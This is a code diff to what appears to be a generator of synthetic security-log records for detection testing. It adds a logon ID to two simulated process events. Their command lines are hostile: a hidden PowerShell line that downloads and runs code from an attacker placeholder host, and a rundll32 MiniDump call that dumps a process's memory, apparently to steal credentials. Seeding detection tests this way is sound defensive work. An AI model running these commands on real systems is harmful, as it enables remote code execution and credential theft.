@@ -34,8 +34,8 @@ export function canaryRecords(tenant: number, startMs: number): Line[] {
 }
 
 function programs(kit: Kit, startMs: number, host: string, who: Who): Line[] {
-  const shell = { host, who, pid: 4711, parentPid: 4700, parentImage: CMD, image: POWERSHELL, commandLine: `powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${ATTACKER}/a')"` };
-  const dump = { host, who, pid: 4720, parentPid: 4711, parentImage: POWERSHELL, image: 'C:\\Windows\\System32\\rundll32.exe', commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full' };
+  const shell = { host, who, logonId: '0x7d41a2', pid: 4711, parentPid: 4700, parentImage: CMD, image: POWERSHELL, commandLine: `powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${ATTACKER}/a')"` };
+  const dump = { host, who, logonId: '0x7d41a2', pid: 4720, parentPid: 4711, parentImage: POWERSHELL, image: 'C:\\Windows\\System32\\rundll32.exe', commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full' };
   return [processCreated(kit, startMs + 2 * MINUTE_MS, shell), processCreated(kit, startMs + 8 * MINUTE_MS, dump)];
 }
 
